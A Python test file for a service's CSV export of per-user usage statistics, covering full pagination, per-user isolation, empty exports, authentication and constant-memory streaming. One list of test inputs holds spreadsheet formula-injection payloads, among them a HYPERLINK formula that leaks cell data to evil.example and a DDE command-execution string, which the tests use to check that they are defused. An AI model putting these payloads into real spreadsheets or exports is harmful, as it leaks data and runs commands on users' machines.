"""CSV export (``format=csv`` on every ``/api/me/stats/*``): a header, every row the query
selects (not one page), spreadsheet formulas defused, nobody else's rows, and a file of
100,000 rows streamed without holding it in memory."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime, timedelta

import httpx
import pytest

from service import export
from service.store import Cursor
from tests.conftest import Account, Server
from tests.seed import add_events, add_file, add_session, add_usage, event, utc

T0 = utc("2026-02-01T12:00:00")


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def attachment(response: httpx.Response) -> str:
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment; filename=")
    return disposition.split("filename=")[1].strip('"')


@pytest.fixture
def small_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages of 3 rows, so a handful of rows spans several reads."""
    monkeypatch.setattr(export, "CHUNK_ROWS", 3)


def test_sessions_csv_holds_every_session_not_one_page(
    server: Server, alice: Account, bob: Account, small_pages: None
) -> None:
    store, a = server.store, alice.user.id
    for n in range(8):
        add_file(store, a, f"s{n}.jsonl")
        add_session(
            store,
            a,
            f"s{n}.jsonl",
            session_id=f"id{n}",
            started_at=T0 + timedelta(hours=n),
            primary_model="claude-opus-4-6",
            tokens=(n, 2 * n, 3 * n, 4 * n),
        )
    add_file(store, a, "waiting.jsonl", status="pending", first_seen_at=T0)
    add_file(store, bob.user.id, "bobs.jsonl")
    add_session(store, bob.user.id, "bobs.jsonl", session_id="bob", started_at=T0)

    with server.client(alice) as http:
        response = http.get("/api/me/stats/sessions", params={"format": "csv", "limit": 2})
        pages = http.get("/api/me/stats/sessions", params={"limit": 200}).json()
    rows = csv_rows(response)
    assert attachment(response) == f"agnes-sessions-{datetime.now(UTC).date()}.csv"
    header = response.text.split("\r\n")[0].split(",")
    assert header[:3] == ["session_file", "session_id", "started_at"]
    assert "download_url" in header and "pipeline_status" in header
    assert [r["session_file"] for r in rows] == [r["session_file"] for r in pages["rows"]]
    assert len(rows) == 9  # limit does not apply: every session, the pending file too
    assert "bobs.jsonl" not in response.text
    s3 = next(r for r in rows if r["session_file"] == "s3.jsonl")
    api3 = next(r for r in pages["rows"] if r["session_file"] == "s3.jsonl")
    assert s3 == {k: export.cell(v) for k, v in api3.items()}
    assert (s3["tokens_total"], s3["processed"], s3["cost_usd"]) == ("30", "true", "")
    waiting = next(r for r in rows if r["session_file"] == "waiting.jsonl")
    assert (waiting["pipeline_status"], waiting["session_id"]) == ("pending", "")


def test_tokens_csv_is_the_daily_rows_of_the_window(server: Server, alice: Account) -> None:
    a = alice.user.id
    now = datetime.now(UTC).replace(hour=12, minute=0, second=0, microsecond=0)
    add_usage(server.store, a, session_file="x.jsonl", ts=now, model="m", tokens=(1, 2, 3, 4))
    add_usage(
        server.store,
        a,
        session_file="x.jsonl",
        ts=now - timedelta(days=3),
        model="m",
        tokens=(10, 20, 30, 40),
        cost_usd=0.5,
    )
    with server.client(alice) as http:
        response = http.get("/api/me/stats/tokens", params={"days": 7, "format": "csv"})
        answer = http.get("/api/me/stats/tokens", params={"days": 7}).json()
    rows = csv_rows(response)
    assert attachment(response) == f"agnes-tokens-{datetime.now(UTC).date()}.csv"
    assert list(rows[0]) == [
        "day",
        "input",
        "output",
        "cache_read",
        "cache_creation",
        "total",
        "cost_usd",
        "sessions",
    ]
    assert rows == [{k: export.cell(v) for k, v in d.items()} for d in answer["daily"]]
    assert [r["day"] for r in rows][-1] == str(date.today())
    assert [r["total"] for r in rows][-4:] == ["100", "0", "0", "10"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturned",
]


def test_cells_a_spreadsheet_would_run_are_defused(server: Server, alice: Account) -> None:
    a = alice.user.id
    add_events(
        server.store,
        [
            event(
                a,
                "query.run",
                T0 + timedelta(minutes=n),
                id=f"f{n}",
                resource=text,
                params={"sql": text},
                result=text,
                client_kind="cli",
            )
            for n, text in enumerate(FORMULAS)
        ],
    )
    with server.client(alice) as http:
        response = http.get("/api/me/stats/queries", params={"format": "csv"})
    rows = csv_rows(response)
    assert len(rows) == len(FORMULAS)
    for row, text in zip(rows, reversed(FORMULAS), strict=True):  # newest first
        assert row["resource"] == "'" + text
        assert row["result"] == "'" + text
        assert row["params"].startswith('{"sql":')  # JSON text starts with a brace: harmless
        assert row["action"] == "query.run"
    for row in rows:
        assert not any(v.startswith(export.FORMULA_STARTS) for v in row.values())
    assert export.cell(-5) == "-5"  # numbers are ours, and a negative one stays a number
    assert export.cell("plain") == "plain"


def test_audit_csv_pages_through_every_event_of_the_caller_only(
    server: Server, alice: Account, bob: Account, small_pages: None
) -> None:
    a, b = alice.user.id, bob.user.id
    add_events(
        server.store,
        [event(a, "query.run", T0 - timedelta(days=n), id=f"q{n}") for n in range(10)]
        + [event(a, "sync.trigger", T0 - timedelta(days=n), id=f"s{n}") for n in range(7)]
        + [event(a, "local_md.upload", T0, id="md", resource="CLAUDE.local.md")]
        + [event(b, "query.run", T0, id="bob-q"), event(b, "sync.trigger", T0, id="bob-s")],
    )
    with server.client(alice) as http:
        queries = csv_rows(http.get("/api/me/stats/queries", params={"format": "csv"}))
        sync = http.get("/api/me/stats/sync", params={"format": "csv", "limit": 1})
        first_page = http.get("/api/me/stats/sync", params={"limit": 1}).json()
    assert [r["id"] for r in queries] == [f"q{n}" for n in range(10)]
    assert attachment(sync) == f"agnes-sync-{datetime.now(UTC).date()}.csv"
    ids = [r["id"] for r in csv_rows(sync)]
    assert ids == ["md", "s0", *(f"s{n}" for n in range(1, 7))] or ids == [
        "s0",
        "md",
        *(f"s{n}" for n in range(1, 7)),
    ]
    assert first_page["rows"][0]["id"] == ids[0]
    assert "bob" not in sync.text


def test_an_empty_export_is_a_header_alone(server: Server, alice: Account) -> None:
    with server.client(alice) as http:
        for tab in ("sessions", "queries", "sync"):
            response = http.get(f"/api/me/stats/{tab}", params={"format": "csv"})
            assert response.status_code == 200
            assert response.text.count("\r\n") == 1, response.text
        bad = http.get("/api/me/stats/sessions", params={"format": "xlsx"})
    assert bad.status_code == 400


def test_export_needs_a_token(server: Server) -> None:
    with server.client() as http:
        assert http.get("/api/me/stats/sessions", params={"format": "csv"}).status_code == 401


def add_many_sessions(server: Server, user_id: str, first: int, count: int) -> None:
    """Sessions ``first`` to ``first + count - 1``, processed, a minute apart (newest
    first), written in two statements."""

    def insert(cur: Cursor) -> None:
        args = {"u": user_id, "first": first, "end": first + count, "t0": T0}
        cur.execute(
            "INSERT INTO files (path, user_id, name, session_file, is_subagent, size, status,"
            " first_seen_at) SELECT $u || '/s' || i || '.jsonl', $u, 's' || i || '.jsonl',"
            " 's' || i || '.jsonl', false, 1000, 'processed', $t0 FROM range($first, $end) t(i)",
            args,
        )
        cur.execute(
            "INSERT INTO sessions (key, user_id, session_file, session_id, started_at,"
            " ended_at, primary_model, input_tokens, output_tokens, cache_read_tokens,"
            " cache_creation_tokens, user_messages, tool_calls)"
            " SELECT $u || '/s' || i || '.jsonl', $u, 's' || i || '.jsonl', 'id-' || i,"
            " $t0 - i * INTERVAL 1 MINUTE, $t0 - i * INTERVAL 1 MINUTE + INTERVAL 30 SECOND,"
            " 'claude-opus-4-6', i, 2 * i, 3 * i, 4 * i, 3, 5 FROM range($first, $end) t(i)",
            args,
        )

    server.store.write_sync(insert)


def traced_export(server: Server, account: Account) -> tuple[int, int, bytes, int]:
    """Download the sessions CSV keeping nothing of it: (lines, bytes, last line, the peak
    of Python's allocations meanwhile, server and client together)."""
    lines = size = 0
    last = tail = b""
    tracemalloc.start()
    try:
        with (
            server.client(account) as http,
            http.stream("GET", "/api/me/stats/sessions", params={"format": "csv"}) as response,
        ):
            assert response.status_code == 200
            for chunk in response.iter_raw():
                size += len(chunk)
                got = (tail + chunk).split(b"\r\n")
                tail = got.pop()
                lines += len(got)
                last = got[-1] if got else last
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return lines, size, last, peak


def test_a_100000_row_export_streams_in_constant_memory(server: Server, alice: Account) -> None:
    """Exporting 100,000 sessions (about 17 MB) takes no more memory than exporting
    10,000: each page is sent before the next is read. Python's allocations are traced
    (tracemalloc; the server runs in this process); the process's whole memory, the
    database's included, is measured by ``bench/export.py``."""
    add_many_sessions(server, alice.user.id, 0, 10_000)
    lines, small, _, peak_small = traced_export(server, alice)
    assert lines == 1 + 10_000
    add_many_sessions(server, alice.user.id, 10_000, 90_000)
    lines, size, last, peak = traced_export(server, alice)
    assert lines == 1 + 100_000
    assert last.startswith(b"s99999.jsonl,id-99999,")
    assert size > 15 * 2**20 and size > 9 * small
    mib = 2**20
    assert peak < peak_small * 1.25 + mib / 2, (
        f"peak {peak / mib:.1f} MiB for {size / mib:.1f} MiB of CSV;"
        f" {peak_small / mib:.1f} MiB for {small / mib:.1f} MiB"
    )
